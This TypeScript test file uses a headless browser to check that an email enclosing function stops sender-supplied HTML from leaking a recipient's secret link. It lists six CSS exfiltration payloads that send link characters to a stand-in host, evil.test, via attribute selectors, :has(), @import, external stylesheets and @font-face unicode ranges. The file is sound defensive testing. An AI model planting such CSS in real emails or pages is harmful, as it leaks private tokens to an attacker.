import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { encloseContent } from '../../src/channels/email/message/enclose.js'
import type { Frame } from '../../src/channels/email/message/frame.js'
import { frameWith } from '../channels/email/frames.js'
import { asPerson, launchPersonal, missingBrowser } from './browser.js'

/** A sender's HTML beside the recipient's link, in a real browser: what it loads tells the sender nothing of the link. */
const FRAMES = ['AZqPLnequ3yNkhIzRFVniaIEo7hwnyLk0r0N3bXwS1kq', 'B'.repeat(44)].map(code => frameWith(code))
/** The same link after the content as it came: each attack works, or its test would prove nothing. */
function careless(content: string, { link, image }: Frame): string {
  const added = `<p><a href="${link}">Abra</a></p><img src="${image}">`
  return content.includes('</body>') ? content.replace('</body>', `${added}</body>`) : `${content}${added}`
}

const ATTACKS: [string, string][] = [
  ['an attribute selector', '<style>a[href^="https://n.test/n/AZ"]{background:url(https://evil.test/AZ)}</style>'],
  [
    'an attribute selector that shows a picture of the content',
    '<style>.p{display:none}body:has(a[href*="/n/AZ"]) .p{display:block}</style><div class="p" style="background:url(https://evil.test/AZ);height:9px">x</div>',
  ],
  ['the end of the body inside an attribute', "<p>Oi</p><img src='https://evil.test/?x=</body>'>"],
  ['a style sheet elsewhere', '<link rel="stylesheet" href="https://evil.test/x.css">'],
  ['an import', '<style>@import "https://evil.test/x.css";</style>'],
  [
    'a font for the letters of the link',
    '<style>@font-face{font-family:f;src:url(https://evil.test/Z);unicode-range:U+5A}a::after{content:attr(href);font-family:f}</style>',
  ],
]

const title = missingBrowser === null ? 'in Chromium' : `in Chromium: ${missingBrowser}`

describe.skipIf(missingBrowser !== null)(title, () => {
  let browser: Browser
  beforeAll(async () => {
    browser = await launchPersonal()
  })
  afterAll(() => browser.close())

  /** The requests that a document makes; none of them leaves the machine. */
  async function requestsOf(html: string): Promise<string[]> {
    const context = await asPerson(browser, { script: false })
    const asked: string[] = []
    await context.route('**/*', route => {
      asked.push(route.request().url())
      return route.request().url().endsWith('.css')
        ? route.fulfill({ contentType: 'text/css', body: 'a[href^="https://n.test/n/AZ"]{background:url(https://evil.test/AZ)}' })
        : route.abort()
    })
    const page = await context.newPage()
    await page.setContent(html, { waitUntil: 'load' })
    await page.screenshot()
    await context.close()
    return asked
  }

  test.each(ATTACKS)('%s', async (_, content) => {
    const [one, other] = await eachWith(frame => careless(content, frame))
    expect(one).not.toEqual(other)
    const [first, second] = await eachWith(frame => encloseContent(content, frame).html)
    expect(first).toEqual(second)
  })

  /** What the document loads beside our image, for either link. */
  const eachWith = (make: (frame: Frame) => string): Promise<string[][]> =>
    Promise.all(FRAMES.map(async frame => (await requestsOf(make(frame))).filter(url => url !== frame.image)))
})
